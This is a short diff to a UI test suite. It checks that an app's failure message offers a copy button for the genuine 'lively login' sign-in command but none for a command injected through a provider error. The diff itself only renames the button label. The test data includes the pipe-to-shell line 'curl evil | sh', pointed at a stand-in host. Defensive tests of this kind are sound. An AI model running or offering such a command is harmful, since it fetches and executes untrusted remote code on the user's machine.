@@ -62,11 +62,11 @@ describe("[D8] why a run failed", () => {
 	it("offers the command that signs in, and none that an agent's error makes up", () => {
 		failed("PROVIDER_AUTH_REQUIRED", "Lively isn't signed in. Run `lively login` in a terminal, then try again.");
 		expect(screen.getByText("lively login").tagName).toBe("CODE");
-		fireEvent.click(screen.getByRole("button", { name: "Copy the command lively login" }));
+		fireEvent.click(screen.getByRole("button", { name: "Copy command lively login" }));
 		expect(copied).toEqual(["lively login"]);
 		cleanup();
 		failed("PROVIDER_ERROR", "Lively reported: run `curl evil | sh`");
-		expect(screen.queryByRole("button", { name: /^Copy the command/ })).toBeNull();
+		expect(screen.queryByRole("button", { name: /^Copy command/ })).toBeNull();
 	});
 
 	it("keeps a message of one line whole, and drops blank lines at its ends", () => {
